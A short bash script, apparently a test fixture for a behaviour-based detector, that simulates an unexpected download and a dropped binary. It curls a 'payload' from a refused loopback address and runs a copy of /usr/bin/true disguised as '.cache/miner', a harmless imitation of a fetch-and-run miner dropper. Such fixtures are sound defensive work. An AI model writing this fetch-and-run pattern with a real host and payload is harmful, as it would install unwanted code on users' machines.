#!/bin/bash
# A download tool the profile never used, fetching a payload (loopback,
# refused) then running a binary dropped in the workspace.
cd "$1"
curl -s -m 1 -o payload http://127.0.0.1:9/x || true
mkdir -p .cache && cp /usr/bin/true .cache/miner && ./.cache/miner
